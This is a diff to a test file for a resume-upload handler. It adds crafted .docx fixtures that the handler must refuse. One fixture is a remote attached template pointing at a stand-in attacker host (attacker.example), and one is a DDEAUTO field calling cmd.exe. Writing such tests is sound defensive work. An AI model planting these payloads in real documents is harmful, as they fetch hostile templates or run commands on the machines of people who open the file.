@@ -12,7 +12,9 @@ import {
 import {
   contentTypesXml,
   docxFiles,
+  documentXml,
   minimalDocx,
+  relsXml,
   zipOf,
 } from "../../../tests/support/docx-fixtures";
 import { action, loader } from "./resume-review";
@@ -228,6 +230,31 @@ describe.each(testEngines())("resume review on $name", (engine) => {
         }),
     ],
     ["a zip without content types", withoutContentTypes],
+    [
+      "a remote attached template",
+      () =>
+        zipOf({
+          ...docxFiles(),
+          "word/_rels/settings.xml.rels": relsXml([
+            {
+              id: "rId1",
+              type: "attachedTemplate",
+              target: "https://attacker.example/cv.dotm",
+              external: true,
+            },
+          ]),
+        }),
+    ],
+    [
+      "a DDE field",
+      () =>
+        zipOf({
+          ...docxFiles(),
+          "word/document.xml": documentXml(
+            `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>`,
+          ),
+        }),
+    ],
   ];
 
   it.each(crafted)("refuses %s named .docx by its content", async (_, make) => {
